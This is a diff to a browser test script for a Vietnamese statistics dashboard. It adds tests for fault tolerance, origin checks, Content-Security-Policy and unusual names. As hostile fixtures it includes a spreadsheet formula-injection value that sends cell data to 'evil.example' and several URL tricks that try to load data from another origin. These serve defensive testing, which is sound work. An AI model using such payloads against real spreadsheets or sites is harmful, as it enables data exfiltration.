@@ -6,7 +6,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { createRequire } from 'node:module';
 import { parseArgs } from 'node:util';
-import { startServer } from './server.mjs';
+import { startServer, HANG } from './server.mjs';
 
 const { values: options } = parseArgs({
   options: { dist: { type: 'string', default: 'dist' }, shots: { type: 'string', default: 'target/screenshots' }, only: { type: 'string' }, list: { type: 'boolean' } },
@@ -15,7 +15,7 @@ const dist = path.resolve(options.dist);
 const shots = path.resolve(options.shots);
 const only = options.only ? new Set(options.only.split(',')) : null;
 const SECTIONS = ['overview', 'english', 'axe', 'errors', 'hostile', 'views', 'places', 'filters', 'hover', 'theme', 'files', 'params',
-  'timing', 'present', 'slides', 'kiosk', 'stale', 'offline', 'exports', 'memory'];
+  'timing', 'present', 'slides', 'kiosk', 'stale', 'offline', 'faults', 'origin', 'csp', 'names', 'exports', 'memory'];
 if (options.list) { console.log(SECTIONS.join('\n')); process.exit(0); }
 for (const name of only ?? []) if (!SECTIONS.includes(name)) { console.error(`unknown section "${name}"; sections: ${SECTIONS.join(', ')}`); process.exit(2); }
 fs.mkdirSync(shots, { recursive: true });
@@ -33,6 +33,7 @@ for (const list of [hostile.localities, hostile.indicators, hostile.domains]) {
   for (const item of list) item.name = { vi: `${item.name.vi} ${evil()}`, en: evil() };
 }
 for (const indicator of hostile.indicators) indicator.unit = { vi: evil(), en: evil() };
+hostile.indicators[0].name = { vi: '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")', en: '@SUM(A1)' };
 for (const record of hostile.records) {
   for (const result of record.results ?? []) result.source.quote = evil();
 }
@@ -67,8 +68,9 @@ async function section(name, body) {
   console.log(`--- ${name}: ${((Date.now() - started) / 1000).toFixed(1)} s`);
 }
 
-async function open(query, viewport = { width: 1920, height: 1080 }, { fakeClock = false } = {}) {
-  const context = await browser.newContext({ viewport, deviceScaleFactor: 1 });
+// `bypassCSP` lets axe-core be injected; the csp section checks the app under its policy.
+async function open(query, viewport = { width: 1920, height: 1080 }, { fakeClock = false, bypassCSP = false } = {}) {
+  const context = await browser.newContext({ viewport, deviceScaleFactor: 1, bypassCSP });
   if (fakeClock) await context.clock.install();
   const page = await context.newPage();
   const problems = [];
@@ -129,7 +131,7 @@ await section('english', async () => {
 
 // 3. Accessibility of the overview (axe-core).
 await section('axe', async () => {
-  const { context, page } = await open('');
+  const { context, page } = await open('', undefined, { bypassCSP: true });
   await page.addScriptTag({ content: axeSource });
   const result = await page.evaluate(async () => {
     const report = await window.axe.run(document, { resultTypes: ['violations'] });
@@ -196,7 +198,7 @@ for (const [width, height] of FOUR_SIZES) {
     // Structure needs a locality with sector shares (only Kbang has them in the default dataset).
     const extra = { indicator: '&indicator=income-per-capita', structure: '&unit=kbang' }[view] ?? '';
     const query = `?view=${view}${extra}`;
-    const { context, page, problems } = await open(query, { width, height });
+    const { context, page, problems } = await open(query, { width, height }, { bypassCSP: width === 1920 });
     const info = await page.evaluate(() => ({
       state: document.documentElement.dataset.state,
       charts: document.querySelectorAll('.chart-svg svg').length,
@@ -533,6 +535,146 @@ await section('offline', async () => {
   const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, bars: document.querySelectorAll('#ranking-chart svg rect').length }));
   check('offline: the app reloads and draws with the server stopped', info.state === 'ready' && info.bars > 5, JSON.stringify(info));
   await context.close();
+});
+
+const waitReady = (page, timeout = 30000) => page.waitForFunction(() => ['ready', 'error'].includes(document.documentElement.dataset.state), null, { timeout });
+const stateOf = (page) => page.evaluate(() => ({
+  state: document.documentElement.dataset.state,
+  stamp: document.querySelector('.stale-notice, .stale-stamp')?.textContent ?? '',
+  reason: document.querySelector('.stale-reason')?.textContent ?? '',
+  title: document.querySelector('h1')?.textContent ?? '',
+  slide: Number(document.querySelector('.stage')?.dataset.slide ?? 0),
+}));
+
+await section('faults', async () => {
+  // A half-written dataset served after a good one: the good one stays, stamped, with the reason.
+  {
+    const faulty = new Map();
+    const own = await startServer(dist, faulty);
+    const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, serviceWorkers: 'block' });
+    const page = await context.newPage();
+    await page.goto(own.base);
+    await waitReady(page);
+    faulty.set('/data/default.json', defaultText.slice(0, Math.floor(defaultText.length * 0.6)));
+    await page.reload();
+    await waitReady(page);
+    const info = await stateOf(page);
+    check('a half-written dataset after a good one: the good data stays on screen', info.state === 'ready' && info.title.length > 0, JSON.stringify(info));
+    check('a half-written dataset: the stamp says the copy is older and why', /bản lưu lúc/.test(info.stamp) && /dòng \d+, cột \d+|cột|JSON/i.test(info.reason + info.stamp) || info.reason.length > 10, JSON.stringify(info));
+    await page.screenshot({ path: path.join(shots, 'fault-half-written.png') });
+    // The broken copy did not replace the kept one: with the good file back, still fine; and a
+    // reload while it is broken again still shows the good copy.
+    faulty.set('/data/default.json', '{"format": "chitieu-dataset", "version": 1, "title": ');
+    await page.reload();
+    await waitReady(page);
+    check('a second broken copy: still the good data', (await stateOf(page)).state === 'ready');
+    // A server that answers 500.
+    faulty.set('/data/default.json', null);
+    await page.reload();
+    await waitReady(page);
+    check('a server that answers an error: the good data stays, stamped', (await stateOf(page)).stamp.includes('30/09/2025'));
+    await context.close();
+    own.server.closeAllConnections(); own.server.close();
+  }
+  // A server that accepts and never answers, with the service worker installed: the kiosk is on
+  // screen from its copies within seconds, stamped, and keeps cycling.
+  {
+    const control = { hangAll: false };
+    const own = await startServer(dist, new Map(), control);
+    const context = await browser.newContext({ viewport: { width: 1920, height: 1080 } });
+    const page = await context.newPage();
+    await page.goto(`${own.base}?mode=kiosk&interval=2`);
+    await waitReady(page);
+    await page.evaluate(async () => { await navigator.serviceWorker.ready; });
+    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 10000 }).catch(async () => { await page.reload(); await waitReady(page); });
+    control.hangAll = true;
+    const started = Date.now();
+    await page.reload({ waitUntil: 'commit', timeout: 30000 }).catch(() => {});
+    await waitReady(page, 30000).catch(() => {});
+    const seconds = (Date.now() - started) / 1000;
+    const info = await stateOf(page);
+    check('a hanging server: the kiosk is on screen from its copies', info.state === 'ready', JSON.stringify(info));
+    check('a hanging server: on screen within 10 s', seconds < 10, `${seconds.toFixed(1)} s`);
+    check('a hanging server: the stale stamp shows', /30\/09\/2025/.test(info.stamp) && /chưa tải được/.test(info.stamp), info.stamp);
+    console.log(`info kiosk on a hanging server: on screen after ${seconds.toFixed(1)} s`);
+    const first = info.slide;
+    await page.waitForFunction((n) => Number(document.querySelector('.stage')?.dataset.slide) !== n, first, { timeout: 6000 }).catch(() => {});
+    check('a hanging server: the kiosk keeps cycling', (await stateOf(page)).slide !== first);
+    await page.screenshot({ path: path.join(shots, 'fault-hanging-server.png') });
+    // The caches: one for this build, one for the data; a new release replaces the old build's.
+    const keys = await page.evaluate(() => caches.keys());
+    check('caches: one app cache named after the build, and the data cache', keys.filter((key) => key.startsWith('chitieu-app-')).length === 1 && keys.includes('chitieu-data') && !keys.some((key) => key.includes('__CHITIEU_BUILD__')), keys.join(', '));
+    control.hangAll = false;
+    await context.close();
+    own.server.closeAllConnections(); own.server.close();
+    // A new release: the same app with another build id in its service worker.
+    const swText = fs.readFileSync(path.join(dist, 'sw.js'), 'utf8');
+    const next = swText.replace(/const BUILD = '[^']*'/, "const BUILD = 'next-release'");
+    const swFixtures = new Map();
+    const released = await startServer(dist, swFixtures);
+    const context2 = await browser.newContext();
+    const page2 = await context2.newPage();
+    await page2.goto(released.base);
+    await waitReady(page2);
+    await page2.evaluate(async () => { await navigator.serviceWorker.ready; });
+    for (let waited = 0; waited < 10000 && !(await page2.evaluate(() => caches.keys())).some((key) => key.startsWith('chitieu-app-')); waited += 250) await page2.waitForTimeout(250);
+    const before = await page2.evaluate(() => caches.keys());
+    swFixtures.set('/sw.js', next);
+    await page2.evaluate(async () => { const registration = await navigator.serviceWorker.ready; await registration.update(); });
+    const appCaches = async () => (await page2.evaluate(() => caches.keys())).filter((key) => key.startsWith('chitieu-app-'));
+    for (let waited = 0; waited < 15000 && (await appCaches()).join() !== 'chitieu-app-next-release'; waited += 250) await page2.waitForTimeout(250);
+    const after = await page2.evaluate(() => caches.keys());
+    check('a new release deletes the old release\'s cache', after.filter((key) => key.startsWith('chitieu-app-')).join() === 'chitieu-app-next-release' && after.includes('chitieu-data'), `${before.join(', ')} → ${after.join(', ')}`);
+    await context2.close();
+    released.server.closeAllConnections(); released.server.close();
+  }
+});
+
+await section('origin', async () => {
+  // ?data= tricks that other resolvers read as another origin: refused with a notice.
+  for (const trick of ['/%5Cevil.host/x.json', '%5C/evil.host/x.json', '/%09/evil.host/x.json', '/%0A/evil.host/x.json', 'https://evil.host/x.json', '//evil.host/x.json']) {
+    const { context, page, problems } = await open(`?data=${trick}`);
+    const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, notices: [...document.querySelectorAll('.notices li')].map((li) => li.textContent) }));
+    check(`?data=${trick}: refused with a notice, the default data shown`, info.state === 'ready' && info.notices.some((text) => text.includes('data=')), JSON.stringify(info));
+    check(`?data=${trick}: nothing requested from another origin`, !problems.some((problem) => problem.startsWith('left the origin')), problems.join('; '));
+    await context.close();
+  }
+});
+
+await section('csp', async () => {
+  // The app runs under its Content-Security-Policy: every view and a slide, no violation.
+  const context = await browser.newContext({ viewport: { width: 1366, height: 768 } });
+  const page = await context.newPage();
+  await page.addInitScript(() => { window.__violations = []; document.addEventListener('securitypolicyviolation', (event) => window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`)); });
+  const violations = [];
+  let policy = '';
+  for (const query of ['', '?view=ranking', '?view=indicator', '?view=compare', '?view=structure&unit=kbang', '?mode=present&slide=3']) {
+    await page.goto(`${base}${query}`);
+    await waitReady(page);
+    policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? '');
+    violations.push(...await page.evaluate(() => window.__violations));
+  }
+  check('a Content-Security-Policy without unsafe-eval or unsafe-inline scripts', /script-src 'self' 'wasm-unsafe-eval' 'sha256-/.test(policy) && !/'unsafe-eval'/.test(policy) && !/script-src[^;]*'unsafe-inline'/.test(policy), policy);
+  check('the app runs under its policy: no violations', violations.length === 0, violations.join('; '));
+  const injected = await page.evaluate(() => { const script = document.createElement('script'); script.textContent = 'window.__ran = 1'; document.body.append(script); return window.__ran ?? null; });
+  check('an injected inline script does not run', injected === null);
+  await context.close();
+});
+
+await section('names', async () => {
+  // Names that are long, right-to-left or invisible do not break the layout.
+  const odd = JSON.parse(defaultText);
+  odd.title = { vi: 'T'.repeat(10000), en: 'T'.repeat(10000) };
+  odd.localities[0].name = { vi: `Xã ${'Rất Dài '.repeat(10)}`, en: 'Long' };
+  odd.localities[1].name = { vi: '\u202Eđảo ngược\u202C Bến Sung', en: '\u202Ereversed' };
+  fixtures.set('/fixtures/odd.json', JSON.stringify(odd));
+  for (const [width, height] of [[390, 844], [1366, 768]]) {
+    const { context, page } = await open('?data=fixtures/odd.json', { width, height });
+    const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, overflow: document.documentElement.scrollWidth - innerWidth }));
+    check(`a 10,000-character title at ${width}px does not widen the page`, info.state === 'ready' && info.overflow <= 0, JSON.stringify(info));
+    await page.screenshot({ path: path.join(shots, `names-${width}.png`) });
+    await context.close();
+  }
 });
 
 await section('exports', async () => {
